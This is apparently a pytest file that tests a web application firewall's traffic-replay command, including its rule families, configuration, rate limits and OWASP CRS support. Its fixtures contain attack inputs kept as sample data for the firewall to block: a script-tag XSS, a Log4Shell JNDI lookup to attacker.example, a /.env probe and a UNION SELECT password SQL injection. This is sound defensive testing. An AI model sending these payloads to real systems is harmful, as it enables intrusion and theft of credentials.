"""``soryoku shield replay`` end to end through ``soryoku.cli.app.main``."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from soryoku.cli.app import main
from soryoku.shield.crs import crs_status

RECORDS = [
    {"method": "GET", "path": "/search", "query": {"q": "shoes"}, "client_ip": "198.51.100.1"},
    {"method": "GET", "url": "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "client_ip": "198.51.100.2"},
    {"method": "GET", "path": "/", "headers": {"user-agent": "${jndi:ldap://attacker.example/a}"}},
    {"method": "POST", "path": "/api/cms", "body": {"html": "<iframe src=x>"}},
    {"method": "GET", "path": "/.env", "client_ip": "198.51.100.3"},
]


def _invoke(args: list[str]) -> int:
    try:
        main(args)
    except SystemExit as done:
        return int(done.code or 0)
    raise AssertionError("main() returned without exiting")


@pytest.fixture
def traffic(tmp_path: Path) -> Path:
    path = tmp_path / "traffic.jsonl"
    path.write_text("\n".join(json.dumps(r) for r in RECORDS) + "\n\n")
    return path


def test_replay_prints_what_would_be_blocked(traffic: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert _invoke(["shield", "replay", str(traffic)]) == 0
    out = capsys.readouterr().out
    assert "4 of 5 requests would be blocked" in out
    for rule in ("xss:script_tag", "known_bad_inputs:log4shell", "known_bad_inputs:scanner_probe_path"):
        assert rule in out


def test_replay_jsonl_and_fail_on_block(traffic: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert _invoke(["shield", "replay", str(traffic), "--format", "jsonl", "--fail-on-block"]) == 1
    events = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [(e["line"], e["rule_id"]) for e in events] == [
        (2, "xss:script_tag"),
        (3, "known_bad_inputs:log4shell"),
        (4, "xss:script_tag"),
        (5, "known_bad_inputs:scanner_probe_path"),
    ]
    assert {e["action"] for e in events} == {"block"}


def test_replay_honours_a_config_with_exclusions(
    traffic: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = tmp_path / "shield.yaml"
    config.write_text(
        "mode: monitor\nroutes:\n  - glob: /api/*\n    exclude_params: [html]\n"
        "families:\n  known_bad_inputs: off\n"
    )
    assert _invoke(["shield", "replay", str(traffic), "--config", str(config), "--fail-on-block"]) == 1
    out = capsys.readouterr().out
    assert "1 of 5 requests would be blocked (xss:script_tag 1)" in out


@pytest.mark.parametrize(
    ("content", "message"),
    [("{not json}\n", "traffic.jsonl:1"), ("[1, 2]\n", "expected a JSON object")],
)
def test_replay_bad_input_exits_2(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], content: str, message: str
) -> None:
    path = tmp_path / "traffic.jsonl"
    path.write_text(content)
    assert _invoke(["shield", "replay", str(path)]) == 2
    assert message in capsys.readouterr().err


def test_replay_bad_config_exits_2(traffic: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    config = tmp_path / "shield.json"
    config.write_text('{"mode": "deny"}')
    assert _invoke(["shield", "replay", str(traffic), "--config", str(config)]) == 2
    assert "mode" in capsys.readouterr().err
    assert _invoke(["shield", "replay", str(traffic), "--config", str(tmp_path / "missing.yaml")]) == 2


def test_replay_rate_rules_follow_the_recorded_time(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = tmp_path / "shield.json"
    config.write_text(
        json.dumps({"rate_rules": [{"name": "login", "limit": 2, "window_s": 60, "route": "/login"}]})
    )
    spread = [
        {"path": "/login", "client_ip": "198.51.100.9", "time": 1_800_000_000 + 40 * i} for i in range(4)
    ]
    burst = [
        {"path": "/login", "client_ip": "198.51.100.10", "time": f"2027-01-15T10:00:0{i}Z"} for i in range(4)
    ]
    traffic = tmp_path / "traffic.jsonl"
    traffic.write_text("\n".join(json.dumps(r) for r in spread + burst))
    assert _invoke(["shield", "replay", str(traffic), "--config", str(config), "--format", "jsonl"]) == 0
    events = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [(e["line"], e["rule_id"], e["client_ip"]) for e in events] == [
        (7, "rate:login", "198.51.100.10"),
        (8, "rate:login", "198.51.100.10"),
    ]


def test_layer_writes_the_zip_and_says_what_is_in_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import zipfile

    out = tmp_path / "shield-layer.zip"
    assert _invoke(["shield", "layer", "-o", str(out)]) == 0
    assert "python/soryoku/shield/aws_lambda.py" in zipfile.ZipFile(out).namelist()
    said = capsys.readouterr().out
    assert str(out) in said and "sqlglot" in said and "crawler-user-agents" in said


def test_layer_refuses_an_output_in_a_missing_folder(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert _invoke(["shield", "layer", "-o", str(tmp_path / "nope" / "layer.zip")]) == 2
    assert "does not exist" in capsys.readouterr().err
    assert not (tmp_path / "nope").exists()


CRS_STATUS = crs_status()
needs_crs = pytest.mark.skipif(
    not CRS_STATUS.available, reason=f"OWASP CRS engine unavailable: {CRS_STATUS.reason}"
)
# A SQL injection in a parameter: the built-in request rules do not look for SQL (the sinks do),
# so only the CRS can refuse it when replaying.
BROWSER = {"host": "shop.example", "user-agent": "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Firefox/121.0"}
CRS_RECORDS = [
    {"path": "/items", "query": {"id": "1 UNION SELECT password FROM users"}, "headers": BROWSER},
    {"path": "/items", "query": {"name": "O'Brien"}, "headers": BROWSER},
]


@pytest.fixture
def crs_traffic(tmp_path: Path) -> Path:
    path = tmp_path / "crs.jsonl"
    path.write_text("\n".join(json.dumps(r) for r in CRS_RECORDS) + "\n")
    return path


@needs_crs
def test_replay_crs_flag_and_config_run_the_core_rule_set(
    crs_traffic: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert _invoke(["shield", "replay", str(crs_traffic), "--fail-on-block"]) == 0
    assert "0 of 2 requests would be blocked" in capsys.readouterr().out
    assert _invoke(["shield", "replay", str(crs_traffic), "--crs", "--format", "jsonl"]) == 0
    events = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [e["line"] for e in events] == [1]
    assert events[0]["rule_id"].startswith("crs:942")
    config = tmp_path / "shield.yaml"
    config.write_text("crs: true\n")
    assert _invoke(["shield", "replay", str(crs_traffic), "--config", str(config), "--fail-on-block"]) == 1
    assert "1 of 2 requests would be blocked (crs:942" in capsys.readouterr().out
    assert _invoke(["shield", "replay", str(crs_traffic), "--config", str(config), "--no-crs"]) == 0
    assert "0 of 2 requests would be blocked" in capsys.readouterr().out


def test_replay_crs_absent_is_one_line_and_exit_2(
    crs_traffic: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    import soryoku.shield.crs as crs_module

    config = tmp_path / "shield.yaml"
    config.write_text(f"crs:\n  rules: {tmp_path}\n")
    if CRS_STATUS.available:
        assert _invoke(["shield", "replay", str(crs_traffic), "--config", str(config)]) == 2
        assert capsys.readouterr().err == (
            "error: shield crs: the OWASP CRS engine was asked for but is unavailable: "
            f"no CRS REQUEST-*.conf rules in {tmp_path} (apt-get install modsecurity-crs)\n"
        )
    monkeypatch.setattr(crs_module, "_library_name", lambda: None)
    assert _invoke(["shield", "replay", str(crs_traffic), "--crs"]) == 2
    assert capsys.readouterr().err == (
        "error: shield crs: the OWASP CRS engine was asked for but is unavailable: "
        "libmodsecurity3 not found (apt-get install libmodsecurity3)\n"
    )
    assert _invoke(["shield", "replay", str(crs_traffic), "--config", str(config), "--no-crs"]) == 0
